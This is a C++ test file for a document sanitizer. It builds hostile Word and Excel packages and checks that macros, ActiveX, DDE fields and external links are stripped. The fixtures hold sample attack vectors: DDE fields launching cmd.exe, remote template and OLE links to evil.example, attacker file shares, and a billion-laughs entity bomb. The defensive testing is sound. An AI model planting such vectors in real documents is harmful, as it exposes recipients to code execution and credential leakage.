// OOXML rebuilt from generated packages: each kind of active content is removed, the package
// stays consistent (every relationship target exists, every part has a content type), and the
// result is clean on a second pass.
#include <gtest/gtest.h>

#include "cdr/fixtures.h"

namespace sanso::cdr {
namespace {

using fixtures::kinds;
using fixtures::make_zip;
using fixtures::unzip;

const char* kTypes = R"(<?xml version="1.0" encoding="UTF-8"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="xml" ContentType="application/xml"/>
<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>
<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>
<Override PartName="/word/vbaData.xml" ContentType="application/vnd.ms-word.vbaData+xml"/>
<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>
<Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>
<Override PartName="/customUI/customUI.xml" ContentType="application/xml"/>
</Types>)";

const char* kRootRels = R"(<?xml version="1.0" encoding="UTF-8"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>
<Relationship Id="rId2" Type="http://schemas.microsoft.com/office/2006/relationships/ui/extensibility" Target="customUI/customUI.xml"/>
</Relationships>)";

const char* kDocRels = R"(<?xml version="1.0" encoding="UTF-8"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>
<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings" Target="settings.xml"/>
<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/control" Target="activeX/activeX1.xml"/>
<Relationship Id="rId4" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html" TargetMode="External"/>
<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.city.minamata.lg.jp/" TargetMode="External"/>
<Relationship Id="rId6" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="file://attacker/share/x.exe" TargetMode="External"/>
</Relationships>)";

const char* kSettingsRels = R"(<?xml version="1.0" encoding="UTF-8"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/template.dotm" TargetMode="External"/>
</Relationships>)";

const char* kSettings = R"(<?xml version="1.0" encoding="UTF-8"?>
<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/></w:settings>)";

// A DDEAUTO field split over three runs, an INCLUDEPICTURE field, a harmless PAGE field, and
// references to the control, the OLE object and both hyperlinks.
const char* kDocument = R"(<?xml version="1.0" encoding="UTF-8"?>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:body>
<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>見積書</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;\\\\attacker\\share\\a.png&quot; \d "><w:r><w:t>図</w:t></w:r></w:fldSimple></w:p>
<w:p><w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>
<w:p><w:r><w:object><w:control r:id="rId3"/></w:object></w:r><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" r:id="rId4"/></w:object></w:r></w:p>
<w:p><w:hyperlink r:id="rId5"><w:r><w:t>水俣市</w:t></w:r></w:hyperlink><w:hyperlink r:id="rId6"><w:r><w:t>共有</w:t></w:r></w:hyperlink></w:p>
</w:body></w:document>)";

std::string hostile_docm() {
  return make_zip({{"[Content_Types].xml", kTypes},
                   {"_rels/.rels", kRootRels},
                   {"word/document.xml", kDocument},
                   {"word/_rels/document.xml.rels", kDocRels},
                   {"word/vbaProject.bin", std::string("\xD0\xCF\x11\xE0 VBA project", 16)},
                   {"word/vbaData.xml", "<wne:vbaSuppData xmlns:wne=\"http://schemas.microsoft.com/office/word/2006/wordml\"/>"},
                   {"word/settings.xml", kSettings},
                   {"word/_rels/settings.xml.rels", kSettingsRels},
                   {"word/activeX/activeX1.xml", "<ax:ocx xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\"/>"},
                   {"customUI/customUI.xml", "<customUI xmlns=\"http://schemas.microsoft.com/office/2006/01/customui\" onLoad=\"AutoOpen\"/>"}});
}

TEST(CdrOoxml, RemovesEveryKindOfActiveContentAndKeepsThePackageConsistent) {
  CdrPolicy policy;
  CdrResult r = sanitize(hostile_docm(), "見積書.docm", policy);
  ASSERT_EQ(r.verdict, Verdict::sanitized) << r.message;
  EXPECT_EQ(r.output_name, "見積書.docx");
  auto k = kinds(r);
  for (const char* want : {"vba_macro", "activex", "custom_ui", "external_template", "external_relationship", "dde_field", "remote_field",
                           "macro_enabled_type"}) {
    EXPECT_TRUE(k.count(want)) << want;
  }
  auto parts = unzip(r.output);
  ASSERT_FALSE(parts.empty());
  EXPECT_EQ(parts.begin()->first, "[Content_Types].xml");
  for (const char* gone : {"word/vbaProject.bin", "word/vbaData.xml", "word/activeX/activeX1.xml", "customUI/customUI.xml"}) EXPECT_FALSE(parts.count(gone)) << gone;
  const std::string& types = parts["[Content_Types].xml"];
  EXPECT_NE(types.find("wordprocessingml.document.main+xml"), std::string::npos);
  EXPECT_EQ(types.find("macroEnabled"), std::string::npos);
  EXPECT_EQ(types.find("activeX1.xml"), std::string::npos);
  const std::string& rels = parts["word/_rels/document.xml.rels"];
  EXPECT_EQ(rels.find("vbaProject"), std::string::npos);
  EXPECT_EQ(rels.find("mhtml:"), std::string::npos);
  EXPECT_EQ(rels.find("file://"), std::string::npos);
  EXPECT_NE(rels.find("https://www.city.minamata.lg.jp/"), std::string::npos) << "a web hyperlink is kept by default";
  EXPECT_EQ(parts["_rels/.rels"].find("customUI"), std::string::npos);
  EXPECT_EQ(parts["word/_rels/settings.xml.rels"].find("evil"), std::string::npos);
  const std::string& doc = parts["word/document.xml"];
  EXPECT_EQ(doc.find("DDE"), std::string::npos);
  EXPECT_EQ(doc.find("EAUTO"), std::string::npos);
  EXPECT_EQ(doc.find("INCLUDEPICTURE"), std::string::npos);
  EXPECT_NE(doc.find("見積書"), std::string::npos) << "the field result stays as text";
  EXPECT_NE(doc.find("PAGE"), std::string::npos) << "harmless fields stay";
  EXPECT_EQ(doc.find("r:id=\"rId3\""), std::string::npos) << "reference to the removed control";
  EXPECT_EQ(doc.find("r:id=\"rId4\""), std::string::npos) << "reference to the removed OLE link";
  EXPECT_EQ(doc.find("r:id=\"rId6\""), std::string::npos) << "reference to the removed file: link";
  EXPECT_NE(doc.find("r:id=\"rId5\""), std::string::npos);
  EXPECT_EQ(parts["word/settings.xml"].find("r:id"), std::string::npos);

  // Every remaining internal relationship points at a part that exists.
  for (const auto& [name, bytes] : parts) {
    if (name.size() < 5 || name.substr(name.size() - 5) != ".rels") continue;
    pugi::xml_document d;
    ASSERT_TRUE(d.load_buffer(bytes.data(), bytes.size())) << name;
    for (pugi::xml_node rel : d.document_element().children()) {
      if (std::string(rel.attribute("TargetMode").value()) == "External") continue;
      std::string dir = name.substr(0, name.find("_rels/"));
      std::string target = dir + rel.attribute("Target").value();
      EXPECT_TRUE(parts.count(target)) << name << " → " << target;
    }
  }
  CdrResult again = sanitize(r.output, r.output_name, policy);
  EXPECT_EQ(again.verdict, Verdict::clean) << (again.findings.empty() ? again.message : again.findings[0].kind);
}

TEST(CdrOoxml, HyperlinksBecomeTextWhenThePolicySaysSo) {
  CdrPolicy policy;
  policy.keep_hyperlinks = false;
  CdrResult r = sanitize(hostile_docm(), "a.docm", policy);
  ASSERT_EQ(r.verdict, Verdict::sanitized);
  auto parts = unzip(r.output);
  EXPECT_EQ(parts["word/_rels/document.xml.rels"].find("minamata"), std::string::npos);
  EXPECT_EQ(parts["word/document.xml"].find("rId5"), std::string::npos);
  EXPECT_NE(parts["word/document.xml"].find("水俣市"), std::string::npos);
  EXPECT_TRUE(kinds(r).count("hyperlink"));
}

TEST(CdrOoxml, EntityExpansionInsideAPartIsNotExpandedAndTheDtdGoes) {
  std::string laughs = "<?xml version=\"1.0\"?><!DOCTYPE w:document [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">"
                       "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">"
                       "<!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\"><!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\">"
                       "<!ENTITY g \"&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;\"><!ENTITY h \"&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;\">]>"
                       "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p><w:r><w:t>&h;</w:t></w:r></w:p></w:body></w:document>";
  std::string types = R"(<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>)";
  std::string rels = R"(<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>)";
  CdrResult r = sanitize(make_zip({{"[Content_Types].xml", types}, {"_rels/.rels", rels}, {"word/document.xml", laughs}}), "laughs.docx", {});
  ASSERT_EQ(r.verdict, Verdict::sanitized) << r.message;
  EXPECT_TRUE(kinds(r).count("xml_dtd"));
  auto parts = unzip(r.output);
  EXPECT_EQ(parts["word/document.xml"].find("<!DOCTYPE"), std::string::npos);
  EXPECT_LT(parts["word/document.xml"].size(), 2000u) << "entities were expanded";
}

TEST(CdrOoxml, ExcelMacroSheetsExternalLinksAndTheirFormulasGo) {
  std::string types = R"(<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/><Override PartName="/xl/macrosheets/sheet2.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/><Override PartName="/xl/connections.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"/></Types>)";
  std::string rels = R"(<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>)";
  std::string wbrels = R"(<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="macrosheets/sheet2.xml"/><Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/><Relationship Id="rId4" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/connections" Target="connections.xml"/></Relationships>)";
  std::string wb = R"(<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/><sheet name="Macro1" sheetId="2" r:id="rId2"/></sheets><externalReferences><externalReference r:id="rId3"/></externalReferences></workbook>)";
  std::string sheet = R"(<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f>[1]!'cmd|''/c calc''!A0'</f><v>0</v></c><c r="B1"><f>SUM(1,2)</f><v>3</v></c></row></sheetData></worksheet>)";
  CdrResult r = sanitize(make_zip({{"[Content_Types].xml", types}, {"_rels/.rels", rels}, {"xl/workbook.xml", wb}, {"xl/_rels/workbook.xml.rels", wbrels},
                                   {"xl/worksheets/sheet1.xml", sheet}, {"xl/macrosheets/sheet2.xml", "<xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"/>"},
                                   {"xl/externalLinks/externalLink1.xml", "<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>"},
                                   {"xl/connections.xml", "<connections/>"}}),
                         "集計.xlsm", {});
  ASSERT_EQ(r.verdict, Verdict::sanitized) << r.message;
  EXPECT_EQ(r.output_name, "集計.xlsx");
  auto k = kinds(r);
  for (const char* want : {"excel4_macro", "external_link", "external_formula", "data_connection", "macro_enabled_type"}) EXPECT_TRUE(k.count(want)) << want;
  auto parts = unzip(r.output);
  EXPECT_FALSE(parts.count("xl/macrosheets/sheet2.xml"));
  EXPECT_FALSE(parts.count("xl/externalLinks/externalLink1.xml"));
  EXPECT_EQ(parts["xl/worksheets/sheet1.xml"].find("cmd"), std::string::npos);
  EXPECT_NE(parts["xl/worksheets/sheet1.xml"].find("SUM(1,2)"), std::string::npos);
  EXPECT_EQ(parts["xl/workbook.xml"].find("rId2"), std::string::npos);
}

TEST(CdrOoxml, BrokenPackagesAreBlockedNotPassed) {
  CdrResult no_types = sanitize(make_zip({{"[Content_Types].xml", "<Types"}, {"word/document.xml", "<w:document/>"}}), "a.docx", {});
  EXPECT_EQ(no_types.verdict, Verdict::blocked);
  EXPECT_EQ(no_types.reason, "malformed");
  std::string truncated = hostile_docm().substr(0, 300);
  CdrResult cut = sanitize(truncated, "a.docx", {});
  EXPECT_EQ(cut.verdict, Verdict::blocked);
}

}  // namespace
}  // namespace sanso::cdr
